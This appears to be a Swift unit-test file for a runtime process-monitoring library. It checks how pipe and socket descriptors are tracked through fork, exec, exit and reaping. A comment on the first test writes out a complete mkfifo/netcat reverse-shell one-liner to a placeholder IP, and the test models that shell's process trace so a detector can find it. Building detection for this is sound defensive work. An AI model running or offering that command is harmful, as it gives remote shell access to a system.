// SPDX-License-Identifier: Apache-2.0
// processes(holdingInode:aliveAt:): which processes held a pipe or socket on fds 0-2 at a given
// time, maintained incrementally through fork (inherited), exec (re-read), descriptor updates and
// exit (an exited process held its descriptors until its exit, and is forgotten when reaped).

import XCTest
@testable import RuntimeWatchCore

final class StateInodeTests: XCTestCase {
    func pids(_ records: some Sequence<ProcessRecord>) -> [Int32] { records.map(\.pid.rawValue) }

    /// `mkfifo f; sh -i < f 2>&1 | nc 198.51.100.7 4444 > f`: sh reads the fifo and writes the
    /// pipe; nc reads the pipe and writes the fifo.
    func testMkfifoPipelineEndsAreFound() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(1, ppid: 0, exe: "/sbin/init"))
        state.apply(b.snapshot(30, ppid: 1, exe: "/bin/bash"))
        let fifo: UInt64 = 4242, pipe: UInt64 = 4343
        state.apply(b.fork(parent: 30, child: 31))
        state.apply(b.exec(31, ppid: 30, exe: "/bin/sh", fds: [
            DescriptorInfo(fd: 0, kind: .pipe, target: "pipe:[\(fifo)]", inode: fifo),
            DescriptorInfo(fd: 1, kind: .pipe, target: "pipe:[\(pipe)]", inode: pipe),
            DescriptorInfo(fd: 2, kind: .pipe, target: "pipe:[\(pipe)]", inode: pipe),
        ]))
        state.apply(b.fork(parent: 30, child: 32))
        state.apply(b.exec(32, ppid: 30, exe: "/usr/bin/nc", fds: [
            DescriptorInfo(fd: 0, kind: .pipe, target: "pipe:[\(pipe)]", inode: pipe),
            DescriptorInfo(fd: 1, kind: .pipe, target: "pipe:[\(fifo)]", inode: fifo),
            DescriptorInfo(fd: 2, kind: .tty, target: "/dev/pts/0"),
            DescriptorInfo(fd: 3, kind: .socket, target: "socket:[999]", inode: 999),
        ]))
        XCTAssertEqual(pids(state.processes(holdingInode: fifo, aliveAt: state.now)), [31, 32])
        XCTAssertEqual(pids(state.processes(holdingInode: pipe, aliveAt: state.now)), [31, 32])
        XCTAssertEqual(pids(state.processes(holdingInode: 999, aliveAt: state.now)), [], "only descriptors 0-2 are indexed")

        let beforeExit = state.now
        state.apply(b.exit(32))
        XCTAssertEqual(pids(state.processes(holdingInode: pipe, aliveAt: state.now + 1)), [31], "after its exit nc holds nothing")
        XCTAssertEqual(pids(state.processes(holdingInode: pipe, aliveAt: beforeExit)), [31, 32],
                       "before its exit nc held the pipe: a late event of that time still finds it")
        state.apply(b.descriptors(31, TraceBuilder.streams(.socket, inode: 5000)))
        XCTAssertEqual(pids(state.processes(holdingInode: fifo, aliveAt: state.now)), [])
        XCTAssertEqual(pids(state.processes(holdingInode: 5000, aliveAt: state.now)), [31])
    }

    /// An exited holder is forgotten once reaped (30 s of event time after its exit by default).
    func testReapedProcessesAreForgotten() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(70, ppid: 1, exe: "/bin/sh", fds: TraceBuilder.streams(.pipe, inode: 700)))
        let alive = state.now
        state.apply(b.exit(70))
        XCTAssertEqual(pids(state.processes(holdingInode: 700, aliveAt: alive)), [70])
        state.apply(EventRecord(timestamp: state.now + 31_000_000_000, event: .exit(ExitEvent(pid: ProcessID(71), code: 0))))
        XCTAssertEqual(pids(state.processes(holdingInode: 700, aliveAt: alive)), [], "reaped: its record and index entries are gone")
    }

    func testForkInheritsAndExecReplacesDescriptors() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(40, ppid: 1, exe: "/bin/bash", fds: TraceBuilder.streams(.socket, inode: 77)))
        state.apply(b.fork(parent: 40, child: 41))
        XCTAssertEqual(pids(state.processes(holdingInode: 77, aliveAt: state.now)), [40, 41], "a fork shares the parent's descriptors")
        state.apply(b.exec(41, ppid: 40, exe: "/bin/ls", fds: TraceBuilder.streams(.pipe, inode: 88)))
        XCTAssertEqual(pids(state.processes(holdingInode: 77, aliveAt: state.now)), [40])
        XCTAssertEqual(pids(state.processes(holdingInode: 88, aliveAt: state.now)), [41])
    }

    func testFilesAreNotIndexedEvenWithAnInode() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(50, ppid: 1, exe: "/bin/cat", fds: [DescriptorInfo(fd: 0, kind: .file, target: "/etc/passwd", inode: 12)]))
        XCTAssertEqual(pids(state.processes(holdingInode: 12, aliveAt: state.now)), [], "file inodes are per filesystem, not pipe/socket identities")
    }

    func testReusedPidDropsTheOldIncarnationsDescriptors() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(60, ppid: 1, exe: "/bin/sh", startTicks: 10, fds: TraceBuilder.streams(.socket, inode: 600)))
        state.apply(b.snapshot(60, ppid: 1, exe: "/bin/other", startTicks: 20, fds: TraceBuilder.streams(.pipe, inode: 601)))
        XCTAssertEqual(pids(state.processes(holdingInode: 600, aliveAt: state.now)), [])
        XCTAssertEqual(pids(state.processes(holdingInode: 601, aliveAt: state.now)), [60])
    }
}
